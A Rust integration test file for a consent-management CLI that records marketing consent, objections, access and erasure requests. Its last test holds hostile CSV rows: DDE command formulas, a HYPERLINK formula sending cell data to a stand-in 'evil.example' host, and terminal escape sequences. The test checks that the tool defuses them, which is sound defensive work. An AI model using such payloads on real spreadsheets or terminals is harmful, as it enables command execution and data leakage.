//! `consent market record|check|bulk`: messages and exit codes, against a real SQLite log.

// Helpers outside #[test] functions, where clippy's in-test allowances do not reach.
#![allow(clippy::expect_used)]

use std::path::Path;
use std::process::{Command, Output};

fn consent(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_consent"))
        .args(args)
        .env("CONSENT_DB", dir.join("consent.db"))
        .env("CONSENT_KEY_FILE", dir.join("consent.key"))
        .env("RUST_LOG", "off")
        .output()
        .expect("run consent")
}

fn out(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn err(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn record(dir: &Path, contact: &str, kind: &str, extra: &[&str]) -> Output {
    let mut args = vec![
        "market",
        "record",
        "--contact",
        contact,
        "--channel",
        "email",
        "--kind",
        kind,
        "--via",
        "phone",
        "--staff",
        "desk-1",
    ];
    args.extend_from_slice(extra);
    consent(dir, &args)
}

/// `--time` before 2000 (a mistyped year, a tool's zero date) is refused as the HTTP API
/// refuses it, by the same rule (`consent_core::register::EARLIEST`), and nothing is stored.
#[test]
fn a_decision_dated_before_2000_is_refused() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let o = record(
        d,
        "maija@example.fi",
        "consent",
        &["--time", "0025-11-01T10:00:00+02:00"],
    );
    assert_eq!(o.status.code(), Some(1), "{}", out(&o));
    assert!(
        err(&o).starts_with("error: time: before 2000-01-01T00:00:00Z"),
        "{}",
        err(&o)
    );
    let o = record(
        d,
        "maija@example.fi",
        "consent",
        &["--time", "2000-01-01T00:00:00Z"],
    );
    assert!(o.status.success(), "{}", err(&o));
    assert_eq!(out(&o), "recorded consent to email marketing as record 1\n");
}

#[test]
fn record_check_and_refusals() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let o = record(
        d,
        "Maija@Example.fi",
        "consent",
        &["--time", "2026-11-01T10:00:00+02:00"],
    );
    assert!(o.status.success(), "{}", err(&o));
    assert_eq!(out(&o), "recorded consent to email marketing as record 1\n");
    let again = record(
        d,
        "maija@example.fi",
        "consent",
        &["--time", "2026-11-01T08:00:00Z"],
    );
    assert!(again.status.success(), "{}", err(&again));
    assert_eq!(
        out(&again),
        "already recorded as record 1; nothing stored again\n"
    );

    let yes = consent(
        d,
        &[
            "market",
            "check",
            "--contact",
            "MAIJA@example.fi",
            "--channel",
            "email",
        ],
    );
    assert_eq!(yes.status.code(), Some(0));
    assert_eq!(
        out(&yes),
        "email marketing: yes (consented since 2026-11-01T08:00:00Z)\n"
    );

    let o = record(
        d,
        "maija@example.fi",
        "objection",
        &["--time", "2026-11-02T08:00:00Z"],
    );
    assert!(o.status.success(), "{}", err(&o));
    let late = record(
        d,
        "maija@example.fi",
        "consent",
        &["--time", "2026-11-01T09:00:00Z"],
    );
    assert_eq!(late.status.code(), Some(1));
    assert!(err(&late).contains("out of order:"), "{}", err(&late));
    assert!(
        err(&late).contains("2026-11-02T08:00:00Z"),
        "{}",
        err(&late)
    );

    let no = consent(
        d,
        &[
            "market",
            "check",
            "--contact",
            "maija@example.fi",
            "--channel",
            "email",
        ],
    );
    assert_eq!(no.status.code(), Some(1));
    assert_eq!(
        out(&no),
        "email marketing: no (objected since 2026-11-02T08:00:00Z)\n"
    );

    let bad = record(d, "maija@", "consent", &[]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(
        err(&bad).contains("e-mail address: the domain"),
        "{}",
        err(&bad)
    );
    let unknown = consent(
        d,
        &["market", "check", "--contact", "a@b.fi", "--channel", "fax"],
    );
    assert_eq!(unknown.status.code(), Some(2));
    assert!(
        err(&unknown).contains("unknown marketing channel"),
        "{}",
        err(&unknown)
    );

    let verify = consent(d, &["verify"]);
    assert!(verify.status.success(), "{}", err(&verify));
    assert!(
        out(&verify).starts_with("chain verified: 2 records"),
        "{}",
        out(&verify)
    );
}

#[test]
fn bulk_lists_who_may_not_be_contacted_and_names_bad_lines() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    assert!(record(d, "yes@example.fi", "consent", &[]).status.success());
    assert!(
        record(d, "no@example.fi", "objection", &[])
            .status
            .success()
    );
    let list = d.join("uutiskirje.csv");
    std::fs::write(
        &list,
        "name,email\nA,yes@example.fi\nB,NO@example.fi\nC,new@example.fi\nD,\nE,a b@c.fi\n",
    )
    .expect("write");
    let o = consent(d, &["market", "bulk", list.to_str().expect("utf-8")]);
    assert_eq!(o.status.code(), Some(1), "malformed rows fail the command");
    assert_eq!(
        out(&o),
        "line,address,reason\n3,NO@example.fi,objected\n4,new@example.fi,no_decision\n\
         5,,malformed: contact: empty\n6,a b@c.fi,malformed: e-mail address: character not allowed at byte 1\n"
    );
    let e = err(&o);
    assert!(e.contains("uutiskirje.csv: line 5: contact: empty"), "{e}");
    assert!(
        e.contains("line 6: e-mail address: character not allowed at byte 1"),
        "{e}"
    );
    assert!(
        e.contains("5 addresses checked for email marketing: 4 may not be contacted (2 malformed)"),
        "{e}"
    );

    std::fs::write(&list, "email\nyes@example.fi\n").expect("write");
    let clean = consent(d, &["market", "bulk", list.to_str().expect("utf-8")]);
    assert!(clean.status.success(), "{}", err(&clean));
    assert_eq!(out(&clean), "line,address,reason\n");

    let missing = consent(d, &["market", "bulk", "/nonexistent/list.csv"]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(
        err(&missing).contains("cannot read /nonexistent/list.csv"),
        "{}",
        err(&missing)
    );
}

#[test]
fn requests_erasure_and_access() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    assert!(
        record(d, "maija@example.fi", "consent", &[])
            .status
            .success()
    );

    let o = consent(
        d,
        &[
            "request",
            "open",
            "--kind",
            "access",
            "--contact",
            "maija@example.fi",
            "--staff",
            "desk-1",
            "--received",
            "2026-01-31",
        ],
    );
    assert!(o.status.success(), "{}", err(&o));
    assert_eq!(
        out(&o),
        "request 1 (access) recorded; answer due 2026-02-28\n"
    );
    let overdue = consent(d, &["request", "overdue"]);
    assert_eq!(overdue.status.code(), Some(1));
    assert!(
        out(&overdue).contains("1\taccess\t2026-01-31\t2026-02-28\t"),
        "{}",
        out(&overdue)
    );
    assert!(out(&overdue).contains("OVERDUE"), "{}", out(&overdue));
    let early = consent(d, &["request", "update", "1", "--close", "completed"]);
    assert_eq!(early.status.code(), Some(1));
    assert!(
        err(&early).contains("confirm the requester's identity"),
        "{}",
        err(&early)
    );
    let done = consent(
        d,
        &[
            "request",
            "update",
            "1",
            "--identity",
            "known_contact",
            "--close",
            "completed",
        ],
    );
    assert!(done.status.success(), "{}", err(&done));
    let none = consent(d, &["request", "overdue"]);
    assert_eq!(
        (none.status.code(), out(&none)),
        (Some(0), "no overdue requests\n".into())
    );
    let bad = consent(
        d,
        &[
            "request",
            "open",
            "--kind",
            "portability",
            "--contact",
            "a@b.fi",
            "--staff",
            "x",
        ],
    );
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        err(&bad).contains("unknown request: expected access"),
        "{}",
        err(&bad)
    );

    let page = consent(
        d,
        &[
            "market",
            "access",
            "--contact",
            "Maija@example.fi",
            "--format",
            "html",
            "--lang",
            "en",
        ],
    );
    assert!(page.status.success(), "{}", err(&page));
    assert!(out(&page).contains("Consent data held about you"));
    assert!(out(&page).contains("maija@example.fi"));

    let erase = consent(
        d,
        &[
            "market",
            "erase",
            "--contact",
            "maija@example.fi",
            "--via",
            "email",
            "--staff",
            "desk-1",
        ],
    );
    assert!(erase.status.success(), "{}", err(&erase));
    assert!(
        out(&erase).starts_with("erased 1 marketing records and 0 waiting confirmation messages; suppressed on every channel"),
        "{}",
        out(&erase)
    );
    let check = consent(
        d,
        &[
            "market",
            "check",
            "--contact",
            "maija@example.fi",
            "--channel",
            "email",
        ],
    );
    assert_eq!(check.status.code(), Some(1));
    assert!(
        out(&check).starts_with("email marketing: no (suppressed since "),
        "{}",
        out(&check)
    );
    let verify = consent(d, &["verify"]);
    assert!(
        out(&verify).starts_with("chain verified: 4 records (1 erased)"),
        "{}",
        out(&verify)
    );
}

#[test]
fn commands_that_only_read_never_make_a_log_or_a_key() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let list = d.join("list.csv");
    std::fs::write(&list, "email\nmaija@example.fi\n").expect("write");
    let list = list.to_str().expect("utf-8");
    let reads: [&[&str]; 6] = [
        &[
            "market",
            "check",
            "--contact",
            "maija@example.fi",
            "--channel",
            "email",
        ],
        &["market", "bulk", list],
        &["market", "access", "--contact", "maija@example.fi"],
        &[
            "market",
            "access",
            "--consent-id",
            "0123456789abcdef0123456789abcdef",
        ],
        &["request", "list"],
        &["request", "overdue"],
    ];
    // A mistyped --db or --data-dir: no log there, so no answer from a new empty one.
    for args in reads {
        let o = consent(d, args);
        assert_eq!(o.status.code(), Some(3), "{args:?}: {}", err(&o));
        assert!(err(&o).contains("consent.db"), "{args:?}: {}", err(&o));
        let made: Vec<_> = std::fs::read_dir(d)
            .expect("dir")
            .map(|e| e.expect("entry").file_name())
            .collect();
        assert_eq!(made, ["list.csv"], "{args:?}");
    }
    // With the log there, they answer from it.
    let o = record(d, "maija@example.fi", "consent", &[]);
    assert!(o.status.success(), "{}", err(&o));
    for args in reads {
        let o = consent(d, args);
        assert_ne!(o.status.code(), Some(3), "{args:?}: {}", err(&o));
    }
    let o = consent(d, reads[0]);
    assert!(o.status.success(), "{}", err(&o));
}

#[test]
fn a_number_written_with_its_trunk_zero_is_the_same_customer() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let sms = |contact: &str, kind: &str, extra: &[&str]| {
        let mut args = vec![
            "market",
            "record",
            "--contact",
            contact,
            "--channel",
            "sms",
            "--kind",
            kind,
            "--via",
            "phone",
            "--staff",
            "desk-1",
        ];
        args.extend_from_slice(extra);
        consent(d, &args)
    };
    // A consent written down the way a number is printed on a card, "+358 (0)40 ...".
    let o = sms(
        "+358 (0)40 765 4321",
        "consent",
        &["--time", "2026-11-01T10:00:00+02:00"],
    );
    assert!(o.status.success(), "{}", err(&o));
    // Then the customer objects on the phone, and the staff member types the number as said.
    let o = sms("040 765 4321", "objection", &[]);
    assert!(o.status.success(), "{}", err(&o));
    for written in [
        "+358 (0)40 765 4321",
        "+358 040 765 4321",
        "00358 (0) 40 765 4321",
        "+358 40 765 4321",
        "040-765 4321",
    ] {
        let o = consent(
            d,
            &["market", "check", "--contact", written, "--channel", "sms"],
        );
        assert_eq!(o.status.code(), Some(1), "{written}: {}", out(&o));
        assert!(
            out(&o).contains("no (objected since"),
            "{written}: {}",
            out(&o)
        );
    }
}

/// The log's options go before or after the subcommand alike (`consent market record --db x`
/// was refused as an unexpected argument), and name the log the environment does not.
#[test]
fn the_log_options_may_follow_the_subcommand() {
    let dir = tempfile::tempdir().expect("tempdir");
    let other = dir.path().join("other");
    std::fs::create_dir(&other).expect("mkdir");
    let db = other.join("c.db");
    let key = other.join("c.key");
    let (db, key) = (db.to_str().expect("utf-8"), key.to_str().expect("utf-8"));
    let recorded = consent(
        dir.path(),
        &[
            "market",
            "record",
            "--contact",
            "a@b.fi",
            "--channel",
            "email",
            "--kind",
            "consent",
            "--via",
            "web_form",
            "--db",
            db,
            "--key-file",
            key,
        ],
    );
    assert!(recorded.status.success(), "{}", err(&recorded));
    let before = consent(
        dir.path(),
        &[
            "market",
            "--db",
            db,
            "--key-file",
            key,
            "check",
            "--contact",
            "a@b.fi",
            "--channel",
            "email",
        ],
    );
    assert!(before.status.success(), "{}", err(&before));
    assert!(
        out(&before).starts_with("email marketing: yes"),
        "{}",
        out(&before)
    );
    assert!(
        !dir.path().join("consent.db").exists(),
        "the environment's log untouched"
    );
}

/// A mailing list's rows come from wherever the clinic collected them (a web form, another
/// system's export), so an attacker may have written one. The flagged list goes back to staff,
/// who open it in a spreadsheet or read it in a terminal: no cell of it may be a formula the
/// spreadsheet runs (`=`, `+`, `-`, `@` first), and no control character may reach the
/// terminal (an escape sequence retitles the window, rewrites the lines above, or worse).
/// A phone number written with its `+` stays as written: it is no formula.
#[test]
fn a_hostile_list_row_is_neither_a_formula_nor_a_terminal_escape() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    assert!(record(d, "yes@example.fi", "consent", &[]).status.success());
    let list = d.join("list.csv");
    std::fs::write(
        &list,
        "email\n\
         =cmd|'/Ccalc'!A0@evil.fi\n\
         \"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\"\n\
         @SUM(1+1)*cmd|'/Ccalc'!A0\n\
         -2+3+cmd|'/Ccalc'!A0\n\
         \"evil\x1b]2;pwned\x07@\x1b[2Jx.fi\"\n\
         +358 40 123 4567\n",
    )
    .expect("write");
    let o = consent(d, &["market", "bulk", list.to_str().expect("utf-8")]);
    assert_eq!(o.status.code(), Some(1), "malformed rows fail the command");
    let csv = out(&o);
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let addresses: Vec<String> = reader
        .records()
        .map(|r| r.expect("a CSV row")[1].to_owned())
        .collect();
    assert_eq!(
        addresses,
        [
            "'=cmd|'/Ccalc'!A0@evil.fi",
            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
            "'@SUM(1+1)*cmd|'/Ccalc'!A0",
            "'-2+3+cmd|'/Ccalc'!A0",
            "evil\u{fffd}]2;pwned\u{fffd}@\u{fffd}[2Jx.fi",
            "+358 40 123 4567",
        ],
        "{csv}"
    );
    for (what, text) in [("output", csv), ("messages", err(&o))] {
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "a control character in the {what}: {text:?}"
        );
    }

    // A header row naming no address column is echoed in the error: printable there too.
    std::fs::write(&list, "name,\x1b]2;pwned\x07\nA,a@b.fi\n").expect("write");
    let o = consent(
        d,
        &[
            "market",
            "bulk",
            list.to_str().expect("utf-8"),
            "--column",
            "email",
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    let e = err(&o);
    assert!(e.contains("no column \"email\""), "{e}");
    assert!(!e.chars().any(|c| c.is_control() && c != '\n'), "{e:?}");
}
